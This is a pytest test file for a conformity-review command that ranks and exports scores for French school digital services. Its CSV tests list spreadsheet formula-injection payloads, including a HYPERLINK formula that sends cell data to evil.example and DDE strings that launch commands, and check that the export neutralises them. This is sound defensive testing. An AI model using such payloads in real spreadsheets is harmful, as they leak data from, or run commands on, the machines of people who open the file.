"""`doctrine-lint review` (issue 13, item 1): the DNE's matrix of many submissions — ranking,
sorting, filters, unreadable submissions, outputs (text, terminal, CSV safe against formulas,
Markdown, HTML, JSON against its schema), golden files over the examples, a generated corpus,
and a review that keeps small rows, not documents."""

from __future__ import annotations

import csv
import gc
import io
import json
import random
import re
import shutil
import tracemalloc
from datetime import date
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from click.testing import CliRunner
from rich.console import Console

from doctrine_lint.cli import cli
from doctrine_lint.document import Document
from doctrine_lint.formats.review import ReviewOptions, csv_cell, present
from doctrine_lint.linter import LintOptions, ManifestResult
from doctrine_lint.packs import load_packs
from doctrine_lint.review import (
    Cell,
    Columns,
    Filters,
    ReviewRow,
    ReviewTable,
    Unreadable,
    build,
    resolve_rules,
    results,
    sort_key,
)

from .conftest import EXAMPLES, PINNED_DATE, REPO

GOLDEN = Path(__file__).parent / "golden"
PACKS = load_packs()
TODAY = date.fromisoformat(PINNED_DATE)
SCHEMA = json.loads((REPO / "schemas" / "review.schema.json").read_text(encoding="utf-8"))


def _run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, ["review", *args, "--date", PINNED_DATE], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def _valid(review: dict[str, Any]) -> None:
    jsonschema.Draft202012Validator(SCHEMA, format_checker=jsonschema.FormatChecker()).validate(review)


# --- golden files over the shipped examples --------------------------------------------------------

GOLDEN_SCENARIOS: list[tuple[str, list[str]]] = [
    ("review.txt", ["examples"]),
    ("review.chapter.txt", ["examples", "--level", "chapter"]),
    ("review.en.txt", ["examples", "--lang", "en", "--sort", "completeness"]),
    ("review.csv", ["examples", "--format", "csv"]),
    ("review.en.csv", ["examples", "--format", "csv", "--lang", "en", "--level", "chapter"]),
    ("review.json", ["examples", "--format", "json"]),
    ("review.md", ["examples", "--format", "markdown", "--level", "chapter"]),
    (
        "review.html",
        ["examples", "--format", "html", "--profile", "examples/profils/marche-ent-colleges.yaml"],
    ),
]


@pytest.mark.parametrize(("name", "args"), GOLDEN_SCENARIOS, ids=[s[0] for s in GOLDEN_SCENARIOS])
def test_golden(name: str, args: list[str], update_golden: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO)
    code, out, err = _run(*args)
    assert code == 0, err
    path = GOLDEN / name
    if update_golden:
        path.write_bytes(out.encode("utf-8"))
    assert path.exists(), f"missing golden file {name}: run pytest --update-golden"
    assert out == path.read_bytes().decode("utf-8")


def test_examples_are_ranked_by_overall_conformity(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO)
    _, out, _ = _run("examples", "--format", "json")
    review = json.loads(out)
    _valid(review)
    ranked = [(s["rank"], Path(s["file"]).name, s["overall"]["conformity"]) for s in review["submissions"]]
    assert ranked == [
        (1, "ent-second-degre.yaml", 100.0),
        (2, "ent-premier-degre.yaml", 96.5),
        (3, "vie-scolaire.yaml", 95.8),
        (4, "ressource-gar.yaml", 93.8),
        (5, "service-tiers-non-conforme.yaml", 42.0),
    ]
    tiers = review["submissions"][4]
    assert tiers["bloquants"] == 1 and tiers["overall"]["status"] == "non-conforme"
    assert tiers["service"] == {
        "name": "QuizExpress Classe",
        "kind": "service-tiers",
        "kind_label": "service tiers",
        "responsible": "entreprise",
    }
    assert tiers["chapters"]["securite:doctrine-6.1.1"]["status"] == "non-conforme"
    assert review["summary"] == {
        "read": 5,
        "shown": 5,
        "unreadable": 0,
        "statuses": {"conforme": 1, "partiellement-conforme": 3, "non-conforme": 1, "incomplet": 0},
    }


def test_a_review_row_matches_the_lint_report_of_the_same_manifest(monkeypatch: pytest.MonkeyPatch) -> None:
    """The matrix says what `lint --format json` says, chapter by chapter."""
    monkeypatch.chdir(REPO)
    lint = CliRunner().invoke(cli, ["examples/ressource-gar.yaml", "--format", "json", "--date", PINNED_DATE])
    scores = json.loads(lint.stdout)["manifests"][0]["scores"]
    _, out, _ = _run("examples/ressource-gar.yaml", "--format", "json")
    (row,) = json.loads(out)["submissions"]
    assert row["overall"]["conformity"] == scores["overall"]["score"]
    assert row["overall"]["completeness"] == scores["overall"]["completeness"]
    for chapter in scores["chapters"]:
        cell = row["chapters"][f"{chapter['referentiel']}:{chapter['key']}"]
        assert (cell["conformity"], cell["status"]) == (chapter["score"], chapter["status"]), chapter["key"]


# --- a generated corpus ----------------------------------------------------------------------------


def generate(folder: Path, count: int, seed: int = 13) -> list[Path]:
    """`count` manifests from the shipped examples with values varied deterministically (as
    benchmarks/bench.py does), a few service names shared to make ties."""
    rng = random.Random(seed)
    bases = [yaml.safe_load(p.read_text(encoding="utf-8")) for p in sorted(EXAMPLES.glob("*.yaml"))]
    paths = []
    for i in range(count):
        data = yaml.safe_load(yaml.safe_dump(rng.choice(bases)))
        data["service"]["name"] = f"Service {i % (count - 3)}"
        data.setdefault("identity", {})["sso_propagation"] = rng.random() > 0.3
        data.setdefault("identity", {})["admin_mfa"] = rng.random() > 0.2
        data.setdefault("accessibility", {})["conformance_rate"] = rng.randint(0, 100)
        if rng.random() > 0.5:
            data.setdefault("security", {}).pop("pentest", None)
        path = folder / f"m{i:03d}.yaml"
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
        paths.append(path)
    return paths


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("corpus")
    generate(folder, 40)
    # the examples' evidence files, which some of them name
    shutil.copytree(EXAMPLES / "preuves", folder / "preuves")
    return folder


@pytest.mark.parametrize(
    "sort",
    [
        "global",
        "completeness",
        "bloquants",
        "name",
        "file",
        "securite",
        "numerique-responsable:rgesn-4",
        "ri-6.1",
    ],
)
@pytest.mark.parametrize("reverse", [False, True], ids=["", "reverse"])
def test_corpus_sorted_and_ranked_by_any_column(corpus: Path, sort: str, reverse: bool) -> None:
    code, out, err = _run(
        str(corpus), "--format", "json", "--sort", sort, *(["--reverse"] if reverse else [])
    )
    assert code == 0, err
    review = json.loads(out)
    _valid(review)
    rows = review["submissions"]
    assert len(rows) == 40 and review["sort"] == {"key": review["sort"]["key"], "reverse": reverse}
    if reverse:
        rows = rows[::-1]

    def value(row: dict[str, Any]) -> Any:
        if sort in ("global", "completeness"):
            return row["overall"]["conformity" if sort == "global" else "completeness"]
        if sort == "bloquants":
            return row["bloquants"]
        if sort in ("name", "file"):
            return (row["service"]["name"] or row["file"]).casefold() if sort == "name" else row["file"]
        cells = row["referentiels"] if ":" not in sort and sort != "ri-6.1" else row["chapters"]
        key = "interoperabilite:ri-6.1" if sort == "ri-6.1" else sort
        return cells[key]["conformity"]

    values = [value(r) for r in rows]
    present = [v for v in values if v is not None]
    assert values == present + [None] * (len(values) - len(present)), "unscored rows come last"
    descending = sort not in ("bloquants", "name", "file")
    assert present == sorted(present, reverse=descending)
    # ranks: 1 first, shared by equal values, then the position (1, 2, 2, 4)
    for position, (row, v) in enumerate(zip(rows, values, strict=True), start=1):
        first = values.index(v) + 1
        assert row["rank"] == first, (position, v)


def test_ties_share_a_rank_and_the_next_rank_skips() -> None:
    columns = Columns((), ())

    def row(file: str, conformity: float | None) -> ReviewRow:
        cell = Cell(conformity, 100.0 if conformity is not None else None, None)
        return ReviewRow(file, "0" * 64, file, "ent-2d", None, cell, (), (), 0, ())

    table = ReviewTable(
        columns, [row("d", 50.0), row("a", 90.0), row("n", None), row("c", 90.0), row("b", 70.0)]
    )
    ranked = table.sorted(sort_key("global", columns))
    assert [(r.file, r.rank) for r in ranked.rows] == [("a", 1), ("c", 1), ("b", 3), ("d", 4), ("n", 5)]
    reverse = table.sorted(sort_key("global", columns), reverse=True)
    assert [(r.file, r.rank) for r in reverse.rows] == [("n", 5), ("d", 4), ("b", 3), ("c", 1), ("a", 1)]


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--kind", "ent-2d"], ["ent-second-degre.yaml"]),
        (["--kind", "ent-1d,ressource"], ["ent-premier-degre.yaml", "ressource-gar.yaml"]),
        (["--kind", "ent-1d", "--kind", "vie-scolaire"], ["ent-premier-degre.yaml", "vie-scolaire.yaml"]),
        (["--verdict", "non-conforme"], ["service-tiers-non-conforme.yaml"]),
        (
            ["--verdict", "conforme,non-conforme"],
            ["ent-second-degre.yaml", "service-tiers-non-conforme.yaml"],
        ),
        (["--min-score", "95.8"], ["ent-second-degre.yaml", "ent-premier-degre.yaml", "vie-scolaire.yaml"]),
        (["--verdict", "partiellement-conforme", "--min-score", "96"], ["ent-premier-degre.yaml"]),
        (["--kind", "service-collectivite"], []),
    ],
)
def test_filters(args: list[str], expected: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO)
    code, out, err = _run("examples", "--format", "json", *args)
    assert code == 0, err
    review = json.loads(out)
    _valid(review)
    assert [Path(s["file"]).name for s in review["submissions"]] == expected
    assert [s["rank"] for s in review["submissions"]] == list(
        range(1, len(expected) + 1)
    )  # ranked among shown
    assert review["summary"]["read"] == 5 and review["summary"]["shown"] == len(expected)


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--kind", "ent-2"], "--kind: « ent-2 » inconnu ; valeurs permises : "),
        (["--kind", "ent2d"], "(vouliez-vous dire « ent-2d » ou « ent-1d » ?)"),
        (["--verdict", "partiel"], "--verdict: « partiel » inconnu"),
        (["--sort", "securit"], "vouliez-vous dire « securite » ?"),
        (["--sort", "doctrine-6.1"], "--sort: « doctrine-6.1 » : tri inconnu"),
    ],
)
def test_unknown_filter_or_sort_is_a_usage_error(
    args: list[str], expected: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(REPO)
    code, out, err = _run("examples", *args)
    assert code == 2 and out == ""
    assert expected in err, err
    assert len(err.splitlines()) == 1


# --- unreadable submissions ------------------------------------------------------------------------


def test_an_unreadable_submission_is_listed_and_never_stops_the_others(tmp_path: Path) -> None:
    for name in ("a-ent.yaml", "c-gar.yaml"):
        source = "ent-second-degre.yaml" if name.startswith("a") else "ressource-gar.yaml"
        shutil.copy(EXAMPLES / source, tmp_path / name)
    (tmp_path / "b-broken.yaml").write_text("service:\n  name: X\n  kind: [unclosed\n", encoding="utf-8")
    (tmp_path / "b2-invalid.yaml").write_text(
        "service:\n  name: X\n  editor: Y\n  kind: ent-3d\n", encoding="utf-8"
    )
    broken, invalid = str(tmp_path / "b-broken.yaml"), str(tmp_path / "b2-invalid.yaml")
    for fmt in ("text", "csv", "json", "html", "markdown"):
        code, out, err = _run(str(tmp_path), "--format", fmt)
        assert code == 2, (fmt, err)
        # on stderr, one located line per problem, in file order
        lines = err.splitlines()
        assert lines[0].startswith(f"doctrine-lint: erreur: {broken}:3:9: "), lines
        assert any(line.startswith(f"doctrine-lint: erreur: {invalid}:4:9: ") for line in lines), lines
        if fmt == "json":
            review = json.loads(out)
            _valid(review)
            assert [Path(s["file"]).name for s in review["submissions"]] == ["a-ent.yaml", "c-gar.yaml"]
            assert [u["file"] for u in review["unreadable"]] == [broken, invalid]
            problem = review["unreadable"][1]["problems"][0]
            assert (problem["line"], problem["column"]) == (4, 9) and "ent-3d" in problem["message"]
        elif fmt == "csv":
            rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff")), delimiter=";"))
            assert [Path(r[1]).name for r in rows[1:]] == ["a-ent.yaml", "c-gar.yaml"]
        else:
            assert f"{invalid}:4:9: " in out.replace("\\", "")  # listed in the review itself
            assert "a-ent.yaml" in out and "c-gar.yaml" in out


@pytest.mark.parametrize("fmt", ["text", "csv", "json", "html", "markdown"])
def test_two_workers_give_the_same_review_as_one(corpus: Path, tmp_path: Path, fmt: str) -> None:
    folder = tmp_path / "lot"
    shutil.copytree(corpus, folder)
    (folder / "m0007b-broken.yaml").write_text("service:\n  name: X\n  kind: [unclosed\n", encoding="utf-8")
    alone = _run(str(folder), "--format", fmt, "--level", "chapter")
    assert alone[0] == 2 and "m0007b-broken.yaml:3:9: " in alone[2]
    for jobs in ("2", "0"):
        assert _run(str(folder), "--format", fmt, "--level", "chapter", "--jobs", jobs) == alone


def test_missing_file_and_empty_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO)
    code, out, err = _run("examples/vie-scolaire.yaml", "nowhere.yaml", "--format", "json")
    assert code == 2 and "nowhere.yaml: fichier introuvable" in err
    assert [s["file"] for s in json.loads(out)["submissions"]] == ["examples/vie-scolaire.yaml"]
    empty = tmp_path / "list.txt"
    empty.write_text("# nothing\n\n", encoding="utf-8")
    code, out, err = _run("--from-list", str(empty))
    assert code == 2 and err == f"doctrine-lint: erreur: {empty}: aucun dossier dans cette liste\n"
    result = CliRunner().invoke(cli, ["review"])
    assert result.exit_code == 2 and "aucun dossier donné" in result.stderr


def test_from_list_reads_paths_relative_to_the_list(tmp_path: Path) -> None:
    folder = tmp_path / "lot"
    folder.mkdir()
    shutil.copy(EXAMPLES / "vie-scolaire.yaml", folder / "vs.yaml")
    shutil.copy(EXAMPLES / "ent-premier-degre.yaml", tmp_path / "e1.yaml")
    listing = folder / "dossiers.txt"
    listing.write_text(f"# lot 2\nvs.yaml\n\n  {tmp_path / 'e1.yaml'}  \n", encoding="utf-8")
    code, out, err = _run("--from-list", str(listing), "--format", "json", "--sort", "file")
    assert code == 0, err
    assert [s["file"] for s in json.loads(out)["submissions"]] == [
        str(tmp_path / "e1.yaml"),
        str(folder / "vs.yaml"),
    ]


def test_reports_dir_writes_each_report_and_links_it_relatively(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(REPO)
    out_dir = tmp_path / "revue"
    out_dir.mkdir()
    review_file = out_dir / "revue.html"
    args = (
        "examples",
        "--format",
        "html",
        "-o",
        str(review_file),
        "--reports-dir",
        str(out_dir / "rapports"),
    )
    code, out, err = _run(*args, "--kind", "ent-1d,ent-2d")
    assert code == 0 and out == "", err
    written = sorted(p.name for p in (out_dir / "rapports").iterdir())
    assert [re.sub(r"-[0-9a-f]{8}\.html$", "", n) for n in written] == [
        "ent-premier-degre",
        "ent-second-degre",
    ]
    page = review_file.read_text(encoding="utf-8")
    links = re.findall(r'<a href="([^"]+)">([^<]+)</a>', page)
    assert sorted(links) == sorted(
        [
            (f"rapports/{n}", name)
            for n, name in zip(written, ["ENT des écoles de Valbois", "ENT Lycées Connectés"], strict=True)
        ]
    )
    report = (out_dir / "rapports" / written[1]).read_text(encoding="utf-8")
    assert "ENT Lycées Connectés" in report and "<!DOCTYPE html>" in report


# --- CSV safe against spreadsheet formulas -----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "＝1+1",
    "\r=1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cell_neutralises_formulas(value: str) -> None:
    cell = csv_cell(value)
    assert cell.startswith("'"), cell
    assert "\t" not in cell and "\r" not in cell


@pytest.mark.parametrize("value", ["ENT Lycées", "100 % conforme", "a=b", "x-1", "mail@exemple.fr"])
def test_csv_cell_leaves_plain_text_alone(value: str) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_csv_injection_from_manifests_and_file_names(
    tmp_path: Path, lang: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    text = (EXAMPLES / "service-tiers-non-conforme.yaml").read_text(encoding="utf-8")
    files = []
    for i, (name, file) in enumerate(
        zip(
            FORMULAS,
            ["-x.yaml", "=cmd.yaml", "+1.yaml", "@a.yaml", "t.yaml", "s.yaml", "f.yaml", "r.yaml"],
            strict=True,
        )
    ):
        quoted = json.dumps(name, ensure_ascii=False)  # a JSON string is a YAML string
        path = tmp_path / file
        path.write_text(text.replace("name: QuizExpress Classe", f"name: {quoted}", 1), encoding="utf-8")
        files.append((path, i))
    args = ["review", "--date", PINNED_DATE, "--format", "csv", "--lang", lang, "--sort", "file", "--"]
    result = CliRunner().invoke(cli, [*args, *(p.name for p, _ in files)], catch_exceptions=False)
    code, out, err = result.exit_code, result.stdout, result.stderr
    assert code == 0, err
    assert out.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(out[1:], newline=""), delimiter=";" if lang == "fr" else ","))
    head, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS)
    for row in body:
        assert len(row) == len(head)
        for column, cell in zip(head, row, strict=True):
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (column, cell)
        # the rates stay numbers a spreadsheet reads as numbers
        rate = row[head.index("Conformité (%)" if lang == "fr" else "Conformity (%)")]
        assert re.fullmatch(r"\d+[,.]\d", rate) and ("," in rate) == (lang == "fr")
    names = {row[head.index("Service")] for row in body}
    assert names == {"'" + csv_cell(v)[1:] for v in FORMULAS}
    files_column = sorted(row[1] for row in body)
    assert files_column == sorted(("'" if p.name[0] in "=+-@" else "") + p.name for p, _ in files)


# --- outputs for people ----------------------------------------------------------------------------


def test_text_tables_fit_80_columns(corpus: Path) -> None:
    for args in ([], ["--level", "chapter"], ["--lang", "en", "--level", "chapter"]):
        code, out, _ = _run(str(corpus), *args)
        assert code == 0
        # table lines (those with a rank or a rule under a header): the legend and lists may be longer
        table_lines = [
            line for line in out.splitlines() if re.match(r"^(#|-|\d+) ", line) and " = " not in line
        ]
        assert table_lines and max(len(line) for line in table_lines) <= 80, max(table_lines, key=len)


def test_terminal_view_at_80_columns_names_every_submission_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO)
    packs = PACKS
    options = LintOptions(today=TODAY)
    columns = Columns.of(packs, resolve_rules(packs, options))
    files = sorted(str(p.relative_to(REPO)) for p in EXAMPLES.glob("*.yaml"))
    table = build(results(files, packs, options), columns).sorted(sort_key("global", columns))
    console = Console(
        file=io.StringIO(), width=80, force_terminal=True, record=True, emoji=False, highlight=False
    )
    present(table, console, ReviewOptions(today=TODAY, level="chapter"))
    shown = console.export_text()
    assert max(len(line) for line in shown.splitlines()) <= 80
    flat = " ".join(shown.split())
    for name in ("ENT des écoles de Valbois", "Exemple Vie Scolaire & EDT", "QuizExpress Classe"):
        assert name in flat
    assert "Doctrine §6.1.4 — RGPD" in flat


# --- memory: small rows, flat in the number of submissions --------------------------------------------


def _referents(obj: object, seen: set[int], depth: int = 0) -> list[object]:
    out = []
    for ref in gc.get_referents(obj):
        if id(ref) in seen or isinstance(ref, type) or depth > 6:
            continue
        seen.add(id(ref))
        out += [ref, *_referents(ref, seen, depth + 1)]
    return out


def test_rows_hold_no_document_and_no_result(corpus: Path) -> None:
    options = LintOptions(today=TODAY)
    columns = Columns.of(PACKS, resolve_rules(PACKS, options))
    table = build(results(sorted(corpus.glob("*.yaml"))[:5], PACKS, options), columns)
    assert len(table.rows) == 5
    reachable = _referents(table.rows, set())
    kinds = {type(o).__name__ for o in reachable}
    assert not kinds & {"Document", "ManifestResult", "Finding", "Report", "Scores", "ScoreLine"}, kinds
    assert not any(isinstance(o, (Document, ManifestResult)) for o in reachable)


def test_memory_of_a_review_is_a_small_row_per_submission(tmp_path: Path) -> None:
    generate(tmp_path, 200)
    shutil.copytree(EXAMPLES / "preuves", tmp_path / "preuves")
    files = sorted(str(p) for p in tmp_path.glob("*.yaml"))
    options = LintOptions(today=TODAY)
    columns = Columns.of(PACKS, resolve_rules(PACKS, options))
    build(results(files[:3], PACKS, options), columns)  # warm the caches (labels, rule orders)
    gc.collect()
    tracemalloc.start()
    try:
        before = tracemalloc.take_snapshot()
        table = build(results(files, PACKS, options), columns)
        gc.collect()
        held = sum(s.size_diff for s in tracemalloc.take_snapshot().compare_to(before, "filename"))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(table.rows) == 200
    per_row = held / 200
    # a row is a few dozen small values (about 3 KiB); a kept manifest would be ~300 KiB
    assert per_row < 8 * 1024, per_row
    # and the peak is that of one manifest at a time, not of 200 (~60 MiB if all were kept)
    assert peak < 25 * 1024 * 1024, peak


def test_build_consumes_any_iterable_one_item_at_a_time() -> None:
    """`build` takes any iterable (the streaming linter's iterator later): an item is summarised
    before the next one is asked for."""
    options = LintOptions(today=TODAY)
    columns = Columns.of(PACKS, resolve_rules(PACKS, options))
    seen: list[int] = []

    def items() -> Any:
        for i, item in enumerate(results([str(EXAMPLES / "vie-scolaire.yaml")] * 3, PACKS, options)):
            assert len(seen) == i  # the previous one was already summarised
            yield item
        yield Unreadable("x.yaml", ())

    def hook(result: ManifestResult) -> str:
        seen.append(1)
        return "r.html"

    table = build(items(), columns, filters=Filters(), on_result=hook)
    assert len(table.rows) == 3 and [u.file for u in table.unreadable] == ["x.yaml"]
    assert {r.report for r in table.rows} == {"r.html"}


def test_reports_dir_never_writes_through_a_planted_link(tmp_path: Path) -> None:
    from doctrine_lint.review import report_filename

    source = tmp_path / "ent.yaml"
    shutil.copy(EXAMPLES / "ent-second-degre.yaml", source)
    reports = tmp_path / "rapports"
    reports.mkdir()
    victim = tmp_path / "victime.txt"
    victim.write_text("intact\n", encoding="utf-8")
    (reports / report_filename(str(source))).symlink_to(victim)
    code, _, err = _run(str(source), "--reports-dir", str(reports), "--format", "json")
    assert code == 0, err
    assert victim.read_text(encoding="utf-8") == "intact\n"
    written = reports / report_filename(str(source))
    assert not written.is_symlink() and "<html" in written.read_text(encoding="utf-8")
